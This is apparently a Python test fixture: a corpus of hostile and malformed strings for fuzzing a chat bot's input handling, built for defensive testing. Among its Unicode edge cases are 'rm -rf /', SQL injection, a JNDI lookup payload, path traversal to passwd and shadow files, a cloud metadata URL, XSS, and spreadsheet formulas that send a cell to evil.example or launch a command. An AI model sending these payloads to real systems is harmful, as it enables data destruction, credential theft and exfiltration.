"""A corpus of nasty strings: what strangers and malicious posts put in front of a chat bot."""

from __future__ import annotations

NASTY: tuple[str, ...] = (
    "",
    " ",
    "\u202eevil.exe\u202c txt.gpj",  # right-to-left override
    "\u2066isolate\u2069 \u2067rtl\u2069 \u200f\u200e",
    "👨\u200d👩\u200d👧\u200d👦 family, z\u200dw\u200dj, zero\u200bwidth\ufeffbom",
    "a" * 10_000,
    ("lockbit " * 1_250).strip(),  # 10,000 characters of matching words
    "\n".join(["line"] * 2_000),
    "null\x00byte\x00 and \x07bell \x1b[31mred\x1b[0m \x7f\x9b",
    "<b>bold</b> <i>x</i> <a href=\"javascript:alert(1)\">click</a> <script>alert(1)</script> &amp; &lt; &#0; &",
    "**bold** __u__ ~~s~~ `code` ```fence``` ||spoiler|| [link](https://evil.example) > quote",
    "@everyone @here <@123456789> <@&987654321> <#111> @channel @all",
    "/watch add lockbit; /role 1 owner && rm -rf /",
    "\"unterminated 'quotes \\ backslash",
    "' OR 1=1; DROP TABLE posts; --",
    "{{7*7}} ${jndi:ldap://127.0.0.1/a} %s%s%n %(x)s",
    "../../../../etc/passwd\\..\\windows\\system32",
    "🏴‍☠️" * 300,
    "\U0001f600\U0001f4a9" * 700,  # astral characters: two UTF-16 units each
    "Z̸̧̛̖̝͎̯̜̭̈́̓͊̓̇̓͘a̵̢̛̼̣̪̹̪̓͆̿̀̚ͅl̸̢̧̲̙̣̲̔̌̑͗g̸̨̬̟̪̀̈́̈͂̈́̀͠o̴̧̟̝̫̭̔̿̈̂̓",
    "ｆｕｌｌｗｉｄｔｈ ＬＯＣＫＢＩＴ",
    "lock\u00adbit l\u0457ckbit ⓛⓞⓒⓚⓑⓘⓣ",
    "\t\r\n\x0b\x0c\u2028\u2029\u0085",
    "https://127.0.0.1:8080/admin http://169.254.169.254/latest/meta-data/ file:///etc/shadow",
    "/(a+)+$/ /(?:x*)*y/ /[/",
    "-- --sources --every -1s --format=../../x",
    '=HYPERLINK("https://evil.example/?"&A1,"open") +cmd|\' /C calc\'!A0 @SUM(1+1) -2+3',  # spreadsheet formulas
    "lone \ud800 surrogate &#55296; \udfff\ufffe\uffff",  # unencodable, and XML-invalid characters
    "\x00\x0b\x0c\x1b\x7f\x9f control \u202e\u2066 bidi",
)
